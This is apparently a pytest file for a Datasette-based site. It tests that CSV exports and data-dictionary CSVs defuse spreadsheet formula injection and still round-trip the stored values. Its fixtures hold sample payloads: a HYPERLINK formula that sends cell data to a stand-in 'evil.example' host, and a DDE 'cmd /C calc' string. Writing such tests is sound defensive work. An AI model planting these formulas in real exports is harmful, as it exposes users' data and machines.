"""Spreadsheet formula injection: Datasette's own CSV (`.csv`, `.csv?_stream=on`,
`.csv?sql=`) and the data dictionary CSV never hand a spreadsheet a cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return, unless the cell is a plain number; and every cell
read back, the neutralising `'` removed, is exactly the value in SQLite."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
import types

import pytest
from conftest import FIXTURES, REPO
from hypothesis import given, strategies as st

from gongkai import release_files
from gongkai.build import build_site
from gongkai.csv_cells import TRIGGERS, neutralise, restore
from gongkai.serve import make_datasette

CELLS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+86",
    "+86 10 1234",
    "-3.5",
    "-",
    "-x",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "'=1",
    "''@x",
    "'plain",
    "plain",
    "1e5",
    "-1e-5",
    "=",
    "+",
    "@",
]
FIELD_NAME = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("csvinj")
    root = tmp / "repo"
    shutil.copytree(FIXTURES / "site", root)
    folder = root / "datasets" / "formulas"
    shutil.copytree(root / "datasets" / "budget", folder)
    (folder / "budget.csv").unlink()
    rows = [["id", "text", FIELD_NAME, "amount"]] + [[str(i), c, c, str(-3.5 + i)] for i, c in enumerate(CELLS)]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    (folder / "cells.csv").write_text(buf.getvalue(), encoding="utf-8")
    d = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    d["name"] = "formulas"
    d["resources"] = [
        {
            "name": "cells",
            "path": "cells.csv",
            "schema": {
                "primaryKey": ["id"],
                "fields": [
                    {"name": "id", "type": "integer"},
                    {"name": "text", "type": "string", "title": "=2+2", "description": "@evil()"},
                    {"name": FIELD_NAME, "type": "string", "title": "-danger", "gov:unit": "+unit"},
                    {"name": "amount", "type": "number", "title": "金额"},
                ],
            },
        }
    ]
    (folder / "datapackage.json").write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
    result = build_site(root, tmp / "out")
    assert result.ok, [
        e.get("message") for x in result.datasets if not x.valid for t in x.report["tasks"] for e in t["errors"]
    ][:5]
    return tmp / "out" / "site"


@pytest.fixture
async def ds(site):
    instance = make_datasette(site, root=REPO)
    await instance.invoke_startup()
    return instance


def sqlite_rows(site):
    conn = sqlite3.connect(f"file:{release_files.database(site, 'formulas')}?immutable=1", uri=True)
    cur = conn.execute("select * from cells order by id")
    header = [c[0] for c in cur.description]
    return header, [list(r) for r in cur.fetchall()]


def as_text(v):
    return "" if v is None else str(v)


def assert_safe(cells):
    for cell in cells:
        if cell.startswith(TRIGGERS):
            float(cell)  # only a plain number may start like a formula (raises otherwise)


@pytest.mark.parametrize(
    "url",
    [
        "/formulas/cells.csv",
        "/formulas/cells.csv?_stream=on",
        "/formulas/cells.csv?_dl=1&_size=max",
        "/formulas.csv?sql=select+*+from+cells+order+by+id",
    ],
)
async def test_datasette_csv_is_neutralised_and_round_trips(ds, site, url):
    response = await ds.client.get(url)
    assert response.status_code == 200, response.text
    got = list(csv.reader(io.StringIO(response.text)))
    header, rows = sqlite_rows(site)
    assert_safe(got[0])
    assert [restore(c) for c in got[0]] == header
    assert len(got) - 1 == len(rows)
    for line, row in zip(got[1:], rows):
        assert_safe(line)
        assert [restore(c) for c in line] == [as_text(v) for v in row]
    # The attack cells really are there, defused
    assert "'=1+1" in got[1] and "+86" in got[3] and "-3.5" in got[5]


async def test_dictionary_csv_is_neutralised(ds):
    response = await ds.client.get("/datasets/formulas/cells/dictionary.csv")
    assert response.status_code == 200
    got = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    for line in got:
        assert_safe(line)
    text_row = next(line for line in got if line[0] == "text")
    assert "'=2+2" in text_row and "'@evil()" in text_row
    cmd_row = next(line for line in got if restore(line[0]) == FIELD_NAME)
    assert cmd_row[0] == "'" + FIELD_NAME and "'+unit" in cmd_row


def test_the_hook_is_installed_and_refuses_a_datasette_it_does_not_know(ds):
    """If an upgrade stops writing CSV through `datasette.views.base.csv.writer`, the plugin
    must fail loudly instead of letting formulas through."""
    import datasette.views.base as views_base

    assert getattr(views_base.csv, "_gongkai_neutralising", False), "plugins/csv_safety.py did not hook Datasette's CSV"
    plugin = next(
        p
        for p in __import__("datasette.plugins", fromlist=["pm"]).pm.get_plugins()
        if getattr(p, "__name__", "").endswith("csv_safety.py")
    )

    class DataView:
        async def as_csv(self, request, database):
            return "written some other way"

    with pytest.raises(RuntimeError):
        plugin.install(types.SimpleNamespace(csv=csv, DataView=DataView))
    with pytest.raises(RuntimeError):
        plugin.install(types.SimpleNamespace(DataView=views_base.DataView))


@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'0123456789.eE abc")), max_size=8))
def test_neutralise_round_trips_and_defuses(text):
    out = neutralise(text)
    assert restore(out) == text
    if out.startswith(TRIGGERS):
        float(out)
